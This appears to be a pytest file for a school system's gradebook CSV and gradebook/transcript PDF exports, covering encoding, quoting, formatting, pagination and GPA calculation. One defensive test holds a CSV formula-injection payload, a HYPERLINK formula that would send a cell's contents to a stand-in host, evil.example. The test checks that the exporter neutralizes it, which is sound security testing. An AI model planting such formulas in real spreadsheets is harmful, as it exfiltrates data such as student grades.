"""Gradebook and transcript exports: CSV read back with the csv module, PDFs read back with pypdf."""

from __future__ import annotations

import csv
import io
import re
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime

import pytest
from pypdf import PdfReader
from reportlab.lib.pagesizes import A4

from resolvers.exports import (
    MISSING,
    GradebookSheet,
    SheetAssignment,
    SheetRow,
    Transcript,
    TranscriptCourse,
    TranscriptTerm,
    _font_files,
    gradebook_csv,
    gradebook_pdf,
    neutralize_formula,
    plain_number,
    term_gpa,
    transcript_pdf,
)

GENERATED = datetime(2025, 6, 1, 14, 30, tzinfo=UTC)
HAS_DEJAVU = _font_files()[0].name.startswith("DejaVu")


ASSIGNMENTS = [
    SheetAssignment("Quiz 1", "Quiz", 10, datetime(2025, 9, 12, 23, 59, tzinfo=UTC)),
    SheetAssignment("Lab report", "Project", 25.5),
    SheetAssignment("Midterm", "Exam", 100),
]
ROWS = [
    SheetRow("Zoë Ångström", "S001", [8.5, 20, 0.1 + 0.2], 91.25, "A-"),
    SheetRow("Łukasz Nguyễn", "S002", [10, None, 88], 87.0, "B+"),
    SheetRow("Ivan Petrov", "S003", [None, None, None], None, None),
]


def sheet(
    rows: list[SheetRow] | None = None, assignments: list[SheetAssignment] | None = None
) -> GradebookSheet:
    return GradebookSheet(
        school_name="Lincoln High School",
        class_title="Biology 101",
        course_code="BIO-101",
        term_name="Fall 2025",
        teacher_names=["Ada Lovelace", "Alan Turing"],
        generated_at=GENERATED,
        assignments=assignments if assignments is not None else ASSIGNMENTS,
        rows=rows if rows is not None else ROWS,
    )


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def pdf_pages(data: bytes) -> list[str]:
    """Each page's text with its whitespace collapsed, so table cells read as one line."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages]


# --- CSV --------------------------------------------------------------------------------------


def test_csv_has_a_bom_and_round_trips() -> None:
    data = gradebook_csv(sheet())
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == [
        [
            "Student number",
            "Student",
            "Quiz 1 (10)",
            "Lab report (25.5)",
            "Midterm (100)",
            "Final %",
            "Letter",
        ],
        ["S001", "Zoë Ångström", "8.5", "20", "0.3", "91.25", "A-"],
        ["S002", "Łukasz Nguyễn", "10", "", "88", "87", "B+"],
        ["S003", "Ivan Petrov", "", "", "", "", ""],
    ]


def test_csv_quotes_commas_quotes_and_newlines() -> None:
    row = SheetRow('Smith, "Jo"\nJr.', "S9", [1, 2, 3])
    assert read_csv(gradebook_csv(sheet([row])))[1][:2] == ["S9", 'Smith, "Jo"\nJr.']


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralizes_formulas_in_every_text_cell(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    data = gradebook_csv(
        sheet(
            [SheetRow(payload, f"{start}42", [1], 50, f"{start}A")],
            [SheetAssignment(payload, "Quiz", 10)],
        )
    )
    header, row = read_csv(data)
    assert header[2] == f"'{payload} (10)"
    assert row == [f"'{start}42", f"'{payload}", "1", "50", f"'{start}A"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("", ""),
    ],
)
def test_neutralize_formula(text: str, expected: str) -> None:
    assert neutralize_formula(text) == expected


@pytest.mark.parametrize(
    ("value", "decimals", "expected"),
    [
        (10.0, 2, "10"),
        (8.50, 2, "8.5"),
        (0.1 + 0.2, 4, "0.3"),
        (100, 4, "100"),
        (0, 2, "0"),
        (-0.001, 2, "0"),
        (87.456, 2, "87.46"),
        (7, 0, "7"),
    ],
)
def test_plain_number(value: float, decimals: int, expected: str) -> None:
    assert plain_number(value, decimals) == expected


def test_csv_of_an_empty_gradebook_is_its_header() -> None:
    assert read_csv(gradebook_csv(sheet([], []))) == [["Student number", "Student", "Final %", "Letter"]]


def test_a_row_must_have_a_score_slot_per_assignment() -> None:
    with pytest.raises(ValueError, match="'S1' has 2 scores for 3 assignments"):
        sheet([SheetRow("A", "S1", [1, 2])])


# --- Gradebook PDF ----------------------------------------------------------------------------


def test_gradebook_pdf_shows_the_sheet() -> None:
    data = gradebook_pdf(sheet())
    assert data.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(data))
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert width > height  # landscape
    (text,) = pdf_pages(data)
    assert "Lincoln High School Biology 101" in text
    assert "Course BIO-101 Term Fall 2025 Teachers Ada Lovelace, Alan Turing" in text
    assert "Generated 2025-06-01 14:30 UTC" in text
    assert "Quiz 1 / 10 Lab report / 25.5 Midterm / 100 Final % Letter" in text
    assert "S001 Zoë Ångström 8.5 20 0.3 91.25 A-" in text
    assert f"S003 Ivan Petrov {MISSING} {MISSING} {MISSING} {MISSING} {MISSING}" in text
    assert "Quiz 1 Quiz 10 2025-09-12 23:59 UTC" in text  # the assignment key
    assert "Page 1 of 1" in text
    assert reader.metadata is not None
    assert reader.metadata.title == "Gradebook: Biology 101 · BIO-101 · Fall 2025"


@pytest.mark.skipif(not HAS_DEJAVU, reason="Bitstream Vera, the fallback font, has no Ł, ễ or Cyrillic")
def test_gradebook_pdf_keeps_names_beyond_latin_1() -> None:
    rows = [SheetRow("Łukasz Nguyễn", "S002", [10, None, 88]), SheetRow("Иван Петров", "S004", [1, 2, 3])]
    text = pdf_pages(gradebook_pdf(sheet(rows)))[0]
    assert "Łukasz Nguyễn" in text
    assert "Иван Петров" in text


def test_markup_characters_appear_literally() -> None:
    rows = [SheetRow("O'Brien <b> & Sons", "<S1>", [1, 2, 3], 50, "F")]
    assignments = [SheetAssignment("<i>Quiz</i> & more", "A&B", 10), *ASSIGNMENTS[1:]]
    gradebook = GradebookSheet(
        "AT&T <School>", "Bio <b>1</b>", "B&1", "T<1>", ["O'Hara <br/>"], GENERATED, assignments, rows
    )
    text = pdf_pages(gradebook_pdf(gradebook))[0]
    for literal in [
        "O'Brien <b> & Sons",
        "<S1>",
        "<i>Quiz</i> & more",
        "A&B",
        "AT&T <School>",
        "Bio <b>1</b>",
        "O'Hara <br/>",
    ]:
        assert literal in text


def test_a_big_gradebook_splits_into_bands_of_pages() -> None:
    assignments = [SheetAssignment(f"Assignment {n}", "Homework", 10) for n in range(1, 26)]
    rows = [
        SheetRow(f"Student {s:03}", f"S{s:03}", [float((s + n) % 11) for n in range(25)], 80.0, "B-")
        for s in range(120)
    ]
    data = gradebook_pdf(sheet(rows, assignments))
    pages = pdf_pages(data)
    assert len(pages) > 4
    assert f"Page 1 of {len(pages)}" in pages[0]
    assert all(f"Page {n} of {len(pages)}" in page for n, page in enumerate(pages, start=1))
    assert "Assignments 1 to 7 of 25" in pages[0]
    text = " ".join(pages)
    for n in range(1, 26):
        assert f"Assignment {n} / 10" in text  # in the header of its band
    # Every band lists every student, and every page with students repeats the header row.
    bands = text.count("of 25 Student # Student")
    assert bands > 1
    assert text.count("S119 Student 119") == bands
    grade_pages = [page for page in pages if re.search(r"\bS\d{3}\b", page)]
    assert all("Student # Student" in page for page in grade_pages)


def test_a_long_title_is_cut_in_the_header_and_whole_in_the_key() -> None:
    title = "Unit 3 test: cellular respiration and photosynthesis in plants"
    text = pdf_pages(gradebook_pdf(sheet([SheetRow("A", "S1", [5])], [SheetAssignment(title, "Exam", 10)])))[
        0
    ]
    assert "Unit 3 test: cellular respiration and… / 10" in text
    assert f"{title} Exam 10" in text


@pytest.mark.parametrize(
    ("rows", "assignments", "expected"),
    [
        ([], ASSIGNMENTS, "No students are enrolled in this class."),
        ([SheetRow("Ana", "S1", [])], [], "No assignments yet."),
        ([], [], "No students are enrolled in this class."),
    ],
)
def test_an_empty_gradebook_still_renders(
    rows: list[SheetRow], assignments: list[SheetAssignment], expected: str
) -> None:
    (text,) = pdf_pages(gradebook_pdf(sheet(rows, assignments)))
    assert expected in text
    assert "Page 1 of 1" in text


def test_gradebook_pdf_renders_the_same_bytes_twice() -> None:
    assert gradebook_pdf(sheet()) == gradebook_pdf(sheet())


def test_renders_in_threads_at_once_are_whole() -> None:
    with ThreadPoolExecutor(4) as pool:
        renders = list(pool.map(lambda _: gradebook_pdf(sheet()), range(8)))
    assert set(renders) == {gradebook_pdf(sheet())}


def test_gradebook_pdf_on_a4() -> None:
    page = PdfReader(io.BytesIO(gradebook_pdf(sheet(), page_size=A4))).pages[0]
    assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (842, 595)


# --- Transcript -------------------------------------------------------------------------------


def course(code: str, credits: float, letter: str | None, points: float | None) -> TranscriptCourse:
    return TranscriptCourse(code, f"Course {code}", credits, letter, points)


def test_term_gpa_weighs_grade_points_by_credits() -> None:
    courses = [
        course("A", 4, "A", 4.0),
        course("B", 3, "B+", 3.3),
        course("C", 2, "C", 2.0),
        course("PE", 1, "P", None),  # pass/fail: no points, not in the GPA
        course("SP", 3, None, None),  # in progress
        course("SEM", 0, "A", 4.0),  # no credits, no weight
    ]
    # (4 * 4.0 + 3 * 3.3 + 2 * 2.0) / (4 + 3 + 2) = 29.9 / 9
    assert term_gpa(courses) == pytest.approx(3.32222, abs=1e-5)


def test_term_gpa_is_none_when_nothing_counts() -> None:
    assert term_gpa([]) is None
    assert term_gpa([course("PE", 1, "P", None), course("X", 0, "A", 4.0)]) is None


TRANSCRIPT = Transcript(
    school_name="Lincoln High School",
    student_name="Zoë O'Brien",
    student_number="S10042",
    generated_at=GENERATED,
    terms=[
        TranscriptTerm(
            "Fall 2024",
            [
                TranscriptCourse("MATH-201", "Algebra II", 4, "A", 4.0),
                TranscriptCourse("HIST-110", "World History <Honors> & Geography", 3, "B+", 3.3),
                TranscriptCourse("PE-100", "Physical Education", 1, "P", None),
            ],
        ),
        TranscriptTerm("Spring 2025", [TranscriptCourse("CHEM-150", "Chemistry", 4, None, None)]),
    ],
    cumulative_gpa=3.7,
    earned_credits=8,
)


def test_transcript_pdf_shows_terms_courses_and_gpas() -> None:
    data = transcript_pdf(TRANSCRIPT)
    assert data.startswith(b"%PDF-")
    page = PdfReader(io.BytesIO(data)).pages[0]
    assert page.mediabox.height > page.mediabox.width  # portrait
    (text,) = pdf_pages(data)
    assert "Student Zoë O'Brien Student number S10042 Generated 2025-06-01 14:30 UTC" in text
    assert "Fall 2024 Code Course Credits Grade Points" in text
    assert "MATH-201 Algebra II 4 A 4.00" in text
    assert "HIST-110 World History <Honors> & Geography 3 B+ 3.30" in text
    assert f"PE-100 Physical Education 1 P {MISSING}" in text
    # (4 * 4.0 + 3 * 3.3) / 7 = 3.7
    assert "Term credits 8 GPA 3.70" in text
    assert f"CHEM-150 Chemistry 4 {MISSING} {MISSING} Term credits 4 GPA {MISSING}" in text
    assert "Cumulative GPA Earned credits 3.70 8" in text
    assert "Unofficial transcript — generated 2025-06-01 14:30 UTC" in text
    assert "Page 1 of 1" in text


def test_a_long_transcript_numbers_its_pages_and_names_the_student_on_each() -> None:
    terms = [
        TranscriptTerm(f"Term {n}", [course(f"C{n}-{i}", 3, "A", 4.0) for i in range(8)]) for n in range(12)
    ]
    pages = pdf_pages(transcript_pdf(Transcript("School", "Ana Silva", "S7", GENERATED, terms, 4.0, 288)))
    assert len(pages) > 1
    for number, page in enumerate(pages, start=1):
        assert f"Unofficial transcript — generated 2025-06-01 14:30 UTC Page {number} of {len(pages)}" in page
        assert number == 1 or "Ana Silva · S7" in page  # the running header


def test_an_empty_transcript_still_renders() -> None:
    (text,) = pdf_pages(transcript_pdf(Transcript("School", "Ana", "S1", GENERATED, [], None, 0)))
    assert "No courses on record yet." in text
    assert f"Cumulative GPA Earned credits {MISSING} 0" in text


def test_transcript_pdf_renders_the_same_bytes_twice() -> None:
    assert transcript_pdf(TRANSCRIPT) == transcript_pdf(TRANSCRIPT)
